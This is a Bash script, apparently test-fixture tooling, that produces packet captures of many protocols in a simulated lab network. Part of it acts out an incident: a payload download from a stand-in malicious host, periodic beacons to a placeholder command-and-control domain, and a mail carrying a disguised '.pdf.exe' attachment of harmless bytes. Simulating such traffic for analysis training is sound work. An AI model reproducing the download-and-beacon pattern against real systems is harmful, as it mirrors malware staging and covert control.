# The captures, sourced by make.sh: capture_NAME makes NAME.pcap unless its comment
# names other files.

BROWSER="Mozilla/5.0 (X11; Linux x86_64) TestBrowser/1.0"

# record HOST DEV FILE [tcpdump arguments] starts a capture; recorded ends it.
record() {
	local host=$1 dev=$2 file=$3
	shift 3
	: >"$tmp/record.log"
	at "$host"
	"${AT[@]}" tcpdump -Z root -U --immediate-mode -n -i "$dev" -w "$tmp/out/$file" "$@" 2>"$tmp/record.log" &
	recorder+=($!)
	until grep -q "listening on" "$tmp/record.log"; do
		kill -0 "${recorder[-1]}" 2>/dev/null || die "$(cat "$tmp/record.log")"
		sleep 0.1
	done
}

# record_ng HOST FILE DEV... starts a capture of several devices by dumpcap.
record_ng() {
	local host=$1 file=$2 dev args=()
	shift 2
	for dev; do
		args+=(-i "$dev")
	done
	: >"$tmp/record.log"
	at "$host"
	"${AT[@]}" dumpcap -q "${args[@]}" -w "$tmp/out/$file" 2>"$tmp/record.log" &
	recorder+=($!)
	until grep -q "^File:" "$tmp/record.log"; do
		kill -0 "${recorder[-1]}" 2>/dev/null || die "$(cat "$tmp/record.log")"
		sleep 0.1
	done
	sleep 0.5
}

recorder=()
recorded() {
	sleep 0.7
	kill "${recorder[@]}"
	wait "${recorder[@]}"
	recorder=()
}

# frame FILE FILTER prints the number of the first packet that matches.
frame() {
	local n
	n=$(tshark -n -r "$tmp/out/$1" -Y "$2" -T fields -e frame.number 2>/dev/null | head -1)
	[ -n "$n" ] || die "$1: no packet matches $2"
	echo "$n"
}

# fetch runs curl without this machine's settings and discards its output.
fetch() {
	on client curl -q -sS --max-time 20 "$@" >/dev/null
}

capture_story() {
	record_ng client story.raw eth0
	# A workstation starts its day.
	on client ping -q -c 2 -i 0.5 10.20.30.1 >/dev/null
	on client ping -q -c 1 fd00:20:30::1 >/dev/null
	on client dig +time=1 +tries=1 @224.0.0.251 -p 5353 +noedns _ipp._tcp.local PTR >/dev/null || true
	on client chronyd -Q -t 6 "server time.partner.example iburst" "cmdport 0" \
		"pidfile $tmp/ntp.pid" "driftfile $tmp/drift" >/dev/null 2>&1 || true
	on client getent ahosts wpad.corp.example. >/dev/null || true
	fetch -A "$BROWSER" http://www.news.example/ --compressed
	sleep 2
	# Something fetches its payload through a redirect.
	fetch -A "UpdateHelper/1.3" -L http://cdn.badfiles.example/get/update.bin -o "$tmp/story.body"
	cmp "$tmp/story.body" "$tmp/www/cdn/files/9f2c/update.bin"
	sleep 1
	# It contacts its operator every five seconds.
	local i
	for i in 1 2 3 4 5; do
		fetch --tlsv1.3 --cacert "$tmp/ca.pem" -A "UpdateHelper/1.3" --http1.1 \
			"https://telemetry.quietpanel.example/api/v1/ping?n=$i"
		[ "$i" != 3 ] || fetch -A "$BROWSER" http://www.news.example/robots.txt
		[ "$i" = 5 ] || sleep 5
	done
	on client ping -q -c 1 203.0.113.81 >/dev/null
	recorded
	editcap --capture-comment "Workstation ws17: suspicious download and what followed" \
		-a "$(frame story.raw 'http.request.uri contains "/files/9f2c/"'):analyst: the payload comes from here, check the User-Agent" \
		-a "$(frame story.raw 'tls.handshake.extensions_server_name == "telemetry.quietpanel.example"'):analyst: first beacon, repeats every 5 s" \
		"$tmp/out/story.raw" "$tmp/out/story.pcapng"
}

capture_dns() {
	local server n=203.0.113.81
	record client eth0 dns.pcap udp port 53
	for server in 10.20.30.1 fd00:20:30::1; do
		query() { on client dig "@$server" "$@" >/dev/null; }
		query mail.partner.example A
		query web1.hosting.example AAAA
		query cdn.badfiles.example A
		query cdn.badfiles.example CNAME
		query partner.example MX
		query partner.example TXT
		query _submission._tcp.partner.example SRV
		query news.example HTTPS
		query _dns.partner.example SVCB
		query news.example CAA
		query example SOA
		query partner.example NS
		query -x "$n"
		query nothing.example A
		query telemetry.quietpanel.example AAAA
		query +noedns WwW.nEwS.eXaMpLe A
		n=2001:db8:80::80
	done
	recorded
}

capture_dns_tcp() {
	local server
	record client eth0 dns-tcp.pcap port 53
	for server in 10.20.30.1 fd00:20:30::1; do
		on client dig "@$server" +bufsize=512 big.partner.example TXT >/dev/null
		on client dig "@$server" +tcp +keepopen cdn.badfiles.example A telemetry.quietpanel.example A >/dev/null
	done
	recorded
}

capture_http() {
	local www=http://www.news.example
	record client eth0 http.pcap tcp port 80
	# One connection, several requests.
	fetch -A "$BROWSER" "$www/robots.txt" -H "Cookie: session=0123456789abcdef" --next \
		-A "$BROWSER" -e "$www/" --compressed "$www/" --next \
		-A "$BROWSER" "$www/live/now.txt" --next \
		-A "$BROWSER" -d "name=reader&text=hello" "$www/comment?id=7" --next \
		-A "$BROWSER" -I "$www/robots.txt" --next \
		-A "$BROWSER" -H "If-Modified-Since: Fri, 02 Jan 2026 03:04:05 GMT" "$www/robots.txt" --next \
		-A "$BROWSER" "$www/missing%20page"
	fetch -A "$BROWSER" -L "$www/old"
	fetch -6 -A "UpdateHelper/1.3" -L http://cdn.badfiles.example/get/update.bin
	fetch -A "UpdateHelper/1.3" -r 0-61 http://203.0.113.80/files/9f2c/update.bin -H "Host: cdn.badfiles.example"
	# Two requests at once.
	on client bash -c 'exec 3<>/dev/tcp/203.0.113.81/80
		printf "GET /%s HTTP/1.1\r\nHost: www.news.example\r\n%s\r\n" robots.txt "" robots.txt?again "Connection: close
" | sed "s/close\$/close\r/" >&3; cat <&3 >/dev/null'
	recorded
}

# A form with a field and two files, then a file in a chunked body.
capture_upload() {
	payload 3000 >"$tmp/report.bin"
	echo "A short note." >"$tmp/note.txt"
	record client eth0 upload.pcap tcp port 80
	fetch -A "UpdateHelper/1.3" -F "host=ws17" -F "report=@$tmp/report.bin;filename=Report 7.bin" \
		-F "note=@$tmp/note.txt;filename=\"a \\\"short\\\" note.txt\"" "http://www.news.example/comment" --next \
		-A "UpdateHelper/1.3" -H "Transfer-Encoding: chunked" -F "file=@$tmp/note.txt" "http://www.news.example/comment"
	recorded
}

# A mail by a link and an attachment in the clear, then one over STARTTLS.
capture_smtp() {
	{
		echo "Harmless test data, nothing to run."
		payload 2000
	} >"$tmp/invoice-4711.pdf.exe"
	record client eth0 smtp.pcap tcp port 25
	on client swaks --silent 2 --server mail.partner.example --helo ws17.corp.example \
		--from billing@badfiles.example --h-From "Billing <billing@badfiles.example>" --to alice@partner.example,bob@partner.example \
		--h-X-Mailer "TestMailer 1.0" --h-Subject "=?utf-8?q?Invoice_4711_=E2=80=93_overdue?=" \
		--body "Please see http://cdn.badfiles.example/get/update.bin and the attachment." \
		--attach-type application/octet-stream --attach-name invoice-4711.pdf.exe \
		--attach "@$tmp/invoice-4711.pdf.exe"
	recorded
}

capture_starttls() {
	printf '%s\r\n' "From: alice@corp.example" "To: bob@partner.example" "Subject: Sealed" "" "Nobody reads this." >"$tmp/mail"
	record client eth0 starttls.pcap tcp port 25
	fetch --ssl-reqd --cacert "$tmp/ca.pem" --url smtp://mail.partner.example/ws17.corp.example \
		--mail-from alice@corp.example --mail-rcpt bob@partner.example -T "$tmp/mail"
	recorded
}

capture_ftp() {
	record client eth0 ftp.pcap tcp and host 203.0.113.22
	fetch -u anonymous:reader@corp.example ftp://files.partner.example/readme.txt
	fetch -u anonymous:reader@corp.example --ftp-port - --disable-eprt ftp://files.partner.example/
	recorded
}

capture_ssh() {
	record client eth0 ssh.pcap tcp port 22
	on client ssh -F /dev/null -l analyst -o BatchMode=yes -o PreferredAuthentications=password \
		-o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no files.partner.example 2>/dev/null || true
	recorded
}

capture_dhcp() {
	record client eth0 dhcp.pcap udp and port 67
	on client udhcpc -i eth0 -f -n -q -s /bin/true -x hostname:ws17 -V lab 2>/dev/null
	recorded
}

# tls_session FILE CURL-ARGUMENTS... records one HTTPS request.
tls_session() {
	local file=$1
	shift
	record client eth0 "$file" tcp port 443
	fetch -A "$BROWSER" --cacert "$tmp/ca.pem" https://shop.partner.example/robots.txt "$@"
	recorded
}

capture_tls12() {
	tls_session tls12.pcap --tls-max 1.2
}

capture_tls13() {
	tls_session tls13.pcap --tlsv1.3
}

# A TLS 1.3 session with its secrets.
capture_tls_secrets() {
	record client eth0 tls-secrets.raw tcp port 443
	on client env SSLKEYLOGFILE="$tmp/keys" curl -q -sS -A "$BROWSER" --http1.1 --tlsv1.3 \
		--cacert "$tmp/ca.pem" https://shop.partner.example/robots.txt >/dev/null
	recorded
	with_secrets tls-secrets
}

# with_secrets NAME adds $tmp/keys to $tmp/out/NAME.raw, which becomes NAME.pcapng.
with_secrets() {
	cp "$tmp/out/$1.raw" "$tmp/plain/$1.pcapng"
	editcap --inject-secrets "tls,$tmp/keys" "$tmp/out/$1.raw" "$tmp/out/$1.pcapng"
	rm "$tmp/keys"
}

# exchange METHOD URL STATUS BODY [REQUEST] prints a line of golden/NAME.exchanges.tsv:
# of the two files the SHA-256.
exchange() {
	local file method=$1 url=$2 status=$3 sums=""
	shift 3
	for file; do
		sums+=$'\t'$(sha256sum <"$file" | cut -c 1-64)
	done
	printf '%s\t%s\t%s%s\n' "$method" "$url" "$status" "$sums"
}

capture_two_interfaces() {
	record_ng router two-interfaces.raw lan0 wan0
	on client ping -q -c 1 203.0.113.81 >/dev/null
	fetch -A "$BROWSER" http://status.news.example/robots.txt
	recorded
	editcap --capture-comment "The same packets on both sides of a router" \
		-a "1:the first packet, seen inside" \
		-a "$(frame two-interfaces.raw 'http.request'):a request, seen inside; the router sends it on" \
		"$tmp/out/two-interfaces.raw" "$tmp/out/two-interfaces.pcapng"
}


# Echo, unreachable and time exceeded, with the ARP and ND before them.
capture_icmp() {
	on client ip neigh flush all
	record client eth0 icmp.pcap arp or icmp or icmp6 or udp port 9
	on client ping -q -c 2 -i 0.3 203.0.113.81 >/dev/null
	on client ping -q -c 2 -i 0.3 2001:db8:80::81 >/dev/null
	on client ping -q -c 1 -t 1 203.0.113.81 >/dev/null || true
	on client ping -q -c 1 -t 1 2001:db8:80::81 >/dev/null || true
	on client ping -q -c 1 -W 1 203.0.113.200 >/dev/null || true
	on client ping -q -c 1 -W 1 2001:db8:ffff::1 >/dev/null || true
	on client bash -c 'echo discard >/dev/udp/203.0.113.81/9; echo discard >/dev/udp/2001:db8:80::81/9'
	recorded
}

capture_fragments() {
	record client eth0 fragments.pcap icmp or icmp6 or 'ip[6:2] & 0x1fff != 0' or ip6 proto 44
	on client ping -q -c 2 -i 0.3 -s 4000 203.0.113.81 >/dev/null
	on client ping -q -c 2 -i 0.3 -s 4000 2001:db8:80::81 >/dev/null
	recorded
}

# page SERVER [curl arguments] fetches a short page from an address.
page() {
	local host=$1
	shift
	fetch -A "$BROWSER" --connect-to "::$host" http://www.news.example/robots.txt "$@"
}

# vlan FILE NET TAG... records traffic in a VLAN on a cable of its own.
vlan() {
	local file=$1 net=$2 host i=1
	shift 2
	for host in client net; do
		start "$host" python3 "$lab/wire.py" vlan trunk0 "$file" "$@"
		await_device "$host" "$file"
		on "$host" ip link set dev "$file" address "02:00:5e:$net:00:0$i" mtu 1400 up
		address "$host" "$file" "10.20.$net.$i/24" "fd00:20:$net::$i/64"
		i=$((i + 1))
	done
	sleep 1
	record net trunk0 "$file.pcap"
	on client ping -q -c 1 "10.20.$net.2" >/dev/null
	on client ping -q -c 1 "fd00:20:$net::2" >/dev/null
	page "10.20.$net.2"
	recorded
}

capture_vlan() {
	vlan vlan 50 8100:20
}

capture_qinq() {
	vlan qinq 51 88a8:100 8100:20
}

# tunnel KIND NET makes a tunnel device between the workstation and outside.
tunnel() {
	local kind=$1 net=$2
	start client python3 "$lab/wire.py" "$kind" "$kind" 10.20.30.17 203.0.113.22
	start net python3 "$lab/wire.py" "$kind" "$kind" 203.0.113.22 10.20.30.17
	tunnel_up "$kind" "$net"
}

tunnel_up() {
	local kind=$1 net=$2 host i=1
	for host in client net; do
		await_device "$host" "$kind"
		on "$host" ip link set dev "$kind" mtu 1400 up
		address "$host" "$kind" "10.20.$net.$i/24" "fd00:20:$net::$i/64"
		i=$((i + 1))
	done
	sleep 1
}

through_tunnel() {
	on client ping -q -c 1 "10.20.$1.2" >/dev/null
	on client ping -q -c 1 "fd00:20:$1::2" >/dev/null
	page "10.20.$1.2"
	recorded
}

# gre.pcap outside the tunnel and raw.pcap, without Ethernet, in it.
capture_gre() {
	tunnel gre 60
	record client eth0 gre.pcap ip proto 47
	record client gre raw.pcap
	through_tunnel 60
}

capture_ipip() {
	tunnel ipip 61
	record client eth0 ipip.pcap ip proto 4 or ip proto 41
	through_tunnel 61
}

capture_vxlan() {
	on client ip link add vxlan address 02:00:5e:62:00:01 type vxlan id 42 local 10.20.30.17 remote 203.0.113.22 dstport 4789
	on net ip link add vxlan address 02:00:5e:62:00:02 type vxlan id 42 local 203.0.113.22 remote 10.20.30.17 dstport 4789
	tunnel_up vxlan 62
	record client eth0 vxlan.pcap udp port 4789
	through_tunnel 62
}

# lossy.pcap at the receiver, lossy-sender.pcap at the sender of a download
# through a cable that loses and delays segments.
capture_lossy() {
	start switch python3 "$lab/wire.py" cable left right 4,12 8
	sleep 1
	record client lossy0 lossy.pcap tcp
	record net lossy0 lossy-sender.pcap tcp
	fetch -A "$BROWSER" --connect-to ::10.20.70.2 http://cdn.badfiles.example/files/9f2c/update.bin -o "$tmp/lossy.body"
	recorded
	cmp "$tmp/lossy.body" "$tmp/www/cdn/files/9f2c/update.bin"
}

# sll.pcap and sll2.pcap: the same packets from all devices at once.
capture_sll() {
	record client any sll.pcap -y LINUX_SLL
	record client any sll2.pcap -y LINUX_SLL2
	on client ping -q -c 1 10.20.30.1 >/dev/null
	on client ping -q -c 1 fd00:20:30::1 >/dev/null
	fetch -A "$BROWSER" http://www.news.example/robots.txt
	recorded
}

# nano.pcap whole and with nanoseconds; snaplen.pcap the first 96 bytes of the
# same packets; gzipped.pcap.gz whole.
capture_nano() {
	record client eth0 nano.pcap --time-stamp-precision=nano
	record client eth0 snaplen.pcap -s 96
	record client eth0 gzipped.pcap
	fetch -A "$BROWSER" http://www.news.example/index.html
	recorded
	gzip -n9 "$tmp/out/gzipped.pcap"
}
